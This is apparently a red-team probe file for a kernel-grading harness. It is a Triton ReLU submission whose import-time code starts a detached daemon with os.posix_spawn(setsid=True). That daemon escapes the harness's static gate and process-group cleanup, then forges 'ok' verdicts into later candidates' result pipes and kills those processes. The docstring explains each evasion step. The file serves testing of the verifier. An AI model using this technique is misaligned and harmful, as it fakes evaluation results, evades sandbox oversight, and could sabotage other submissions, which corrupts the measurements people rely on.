# probes: red team 1, cheat_server_2: escape process group, cross-candidate forgery
# reference: ref_relu.py
# expect: static
# runtime: fallback
"""cheat_server_2 -- escape the process group, then forge verdicts for LATER candidates.
Targets: tests/verifier_cases/ref_relu.py (then any later job on the same fork server).
Trick: os.posix_spawn(..., setsid=True) (posix_spawn is not blocked; `setsid` appears only as a
keyword argument, which the static gate's Name/Attribute scan does not see) starts a daemon in
its own session, so the server's killpg at the end of the job misses it ("no leftover
processes" is false). This candidate itself is an honest ReLU and gets `ok`. The daemon polls
/proc for new children of the fork server (the ppid we pass it), opens each child's result
pipe through /proc/PID/fd/N (same uid), writes a plain-data {"stage": "ok"} frame, and SIGKILLs
the child before it can write its own. Every later candidate on that server -- even garbage --
is `ok` (or, flipped, every competitor could be sabotaged).
Verdict: this file ok (honestly); a later garbage candidate (returns x after an empty kernel):
ok. Demo: python demo_server_2.py
"""
import os
import sys
import torch
import torch.nn as nn
import triton
import triton.language as tl

DAEMON = r'''
import os, sys, time, struct, pickle
server = int(sys.argv[1]); mine = int(sys.argv[2]); done = set([mine])
frame = pickle.dumps({"stage": "ok"}); frame = struct.pack("<Q", len(frame)) + frame
t_end = time.time() + 120
while time.time() < t_end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in done:
            continue
        pid = int(p)
        try:
            st = open(f"/proc/{pid}/stat").read()
            if int(st.rsplit(")", 1)[1].split()[1]) != server:
                continue
            out = os.stat(f"/proc/{pid}/fd/1").st_ino
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if int(fd) > 2 and os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:") \
                        and os.stat(f"/proc/{pid}/fd/{fd}").st_ino != out:
                    w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(w, frame); os.close(w)
                    os.kill(pid, 9); done.add(pid); break
        except (OSError, ValueError, IndexError):
            pass
    time.sleep(0.005)
'''

os.posix_spawn(sys.executable, [sys.executable, "-c", DAEMON, str(os.getppid()), str(os.getpid())],
               dict(os.environ), setsid=True)


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        out = torch.empty_like(x)
        relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK=1024)
        return out
